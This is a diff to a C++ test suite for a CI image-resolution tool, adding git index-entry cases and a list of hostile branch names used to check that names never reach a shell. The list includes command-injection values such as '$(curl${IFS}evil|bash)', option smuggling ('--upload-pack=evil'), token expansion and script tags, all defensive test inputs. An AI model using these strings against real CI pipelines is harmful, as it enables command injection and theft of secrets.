@@ -104,15 +104,30 @@ TEST_F(ResolveImage, NotesThatAForksImageIsNotTested) {
 }
 
 /// A26
-TEST_F(ResolveImage, CountsRenamesDeletionsAndModes) {
+TEST_F(ResolveImage, CountsRenamesDeletionsModesKindsAndSubmodules) {
+  const auto first = project.git({"rev-parse", "HEAD"});
+  const auto entry = [](const std::string& mode, const std::string& object, const std::string& path) {
+    return std::vector<std::string>{"update-index", "--add", "--cacheinfo", join(std::vector{mode, object, path}, ",")};
+  };
+  const std::string blob = project.git({"rev-parse", concat("HEAD:", kDockerfile)});
+  project.git({"update-index", "--chmod=+x", kWorkflow});
+  project.git(entry("120000", blob, "link"));
+  project.git(entry("160000", first, "module"));
+  project.git({"commit", "-q", "-m", "kinds of entries"});
   const auto sole = project.git({"rev-parse", "HEAD"});
+  project.git({"update-ref", "refs/remotes/origin/main", sole});
+  settings().watch = {kDockerfile, kWorkflow, "link", "module"};
   const std::vector<std::vector<std::string>> changes = {{"mv", kDockerfile, "other"},
                                                          {"mv", kDockerfile, "Ci.Dockerfile"},
-                                                         {"rm", "-q", kDockerfile},
-                                                         {"update-index", "--chmod=+x", kWorkflow},
-                                                         {"mv", kWorkflow, ".github/x.yml"}};
+                                                         {"rm", "-q", "--cached", kDockerfile},
+                                                         {"update-index", "--chmod=+x", kDockerfile},
+                                                         {"update-index", "--chmod=-x", kWorkflow},
+                                                         {"mv", kWorkflow, ".github/x.yml"},
+                                                         entry("160000", sole, "module"),
+                                                         entry("100644", blob, "link"),
+                                                         entry("120000", blob, kDockerfile)};
   for (const auto& change : changes) {
-    project.git({"checkout", "-q", "-B", "fix", sole});
+    project.git({"checkout", "-q", "-f", "-B", "fix", sole});
     project.git(change);
     project.git({"commit", "-q", "-m", "change"});
     head = project.git({"rev-parse", "HEAD"});
@@ -357,11 +372,62 @@ TEST_F(ResolveImage, ShowsTheLinesThatAreMissing) {
   }
 }
 
+/// Legal, says git.
+std::vector<std::string> hostile_branches() {
+  return {"$(touch${IFS}evil)",
+          "$(curl${IFS}evil|bash)",
+          "a`touch${IFS}evil`",
+          "zzz\";touch${IFS}evil",
+          "a';touch${IFS}evil;'",
+          "a;touch${IFS}evil",
+          "a|touch${IFS}evil",
+          "a&&touch${IFS}evil",
+          "a&touch${IFS}evil",
+          "a>evil",
+          "evil<a",
+          "$HOME",
+          "${{github.token}}",
+          "{{.Env}}",
+          "%s%n%x",
+          "%2e%2e%2fevil",
+          "-rf",
+          "--upload-pack=evil",
+          "-",
+          "a/-b",
+          "@org/team",
+          "#1",
+          "!evil",
+          "##vso-task",
+          "<script>alert(1)</script>",
+          "<!--crategate-->",
+          "\"quoted\"",
+          "a=b,c+d",
+          "\xF0\x9F\x9A\x80",
+          "\xC3\xBC",
+          "u\xCC\x88",
+          "\xE2\x80\xAE"
+          "evil",
+          "a\xE2\x80\x8B"
+          "b",
+          "a\xC2\xA0"
+          "b",
+          "HEAD",
+          "refs/heads/main",
+          "latest",
+          "pr-7",
+          "v1.0.0",
+          "main-sha-" + std::string(40, 'a'),
+          "buildcache",
+          std::string(300, 'x')};
+}
+
 /// A22: names of branches go into tags and arguments only; a base that git could not have is refused.
 TEST_F(ResolveImage, SurvivesHostileBranchNames) {
-  for (const std::string& branch :
-       {std::string("$(touch${IFS}evil)"), std::string("a`touch evil`"), std::string("\xF0\x9F\x9A\x80"),
-        std::string("-rf"), std::string(300, 'x'), std::string("a/../../b")}) {
+  std::vector<std::string> branches = hostile_branches();
+  EXPECT_GE(branches.size(), 40U);
+  for (const auto& branch : branches) project.git({"check-ref-format", concat("refs/heads/", branch)});
+  branches.emplace_back("a/../../b");
+  for (const std::string& branch : branches) {
     project.invocation = {};
     project.invocation.event = "push";
     project.invocation.ref = concat("refs/heads/", branch);
@@ -377,7 +443,27 @@ TEST_F(ResolveImage, SurvivesHostileBranchNames) {
     const auto pull_request = decide();
     EXPECT_TRUE(!pull_request || pull_request->modified) << "nothing can be compared";
   }
+  project.invocation.base_ref.clear();
+  project.invocation.event = "push";
+  project.invocation.ref = "refs/heads/\xFF\xFE";
+  EXPECT_EQ(decide().error().code, ErrorCode::bad_input) << "which no output could carry";
   EXPECT_FALSE(project.exists("evil"));
+}
+
+/// What watches nothing is refused there as well, by whatever commits are here; a cut list says nothing of what is missing.
+TEST_F(ResolveImage, NamesAWatchedPathThatGitHubDoesNotListEither) {
+  lose_the_base();
+  settings().watch = {kDockerfile, "docker/ci.Dockerfile"};
+  github.files = {{"src/a"}, 1, true};
+  const auto refused = decide(&api);
+  ASSERT_FALSE(refused);
+  EXPECT_EQ(refused.error().code, ErrorCode::bad_input);
+  EXPECT_THAT(refused.error().message, AllOf(HasSubstr("docker/ci.Dockerfile"), HasSubstr("GitHub lists")));
+  EXPECT_THAT(refused.error().hint, HasSubstr("ci.Dockerfile?"));
+  github.files.paths.emplace_back("docker/ci.Dockerfile");
+  EXPECT_EQ(decide(&api).value().event, CiEvent::other_event_changed) << "the pull request brings it";
+  github.files = {{kDockerfile}, 1, false};
+  EXPECT_EQ(decide(&api).value().event, CiEvent::other_event_changed);
 }
 
 /// What the clone cannot tell is GitHub's to say, unless its list is cut, of another head, or does not come.
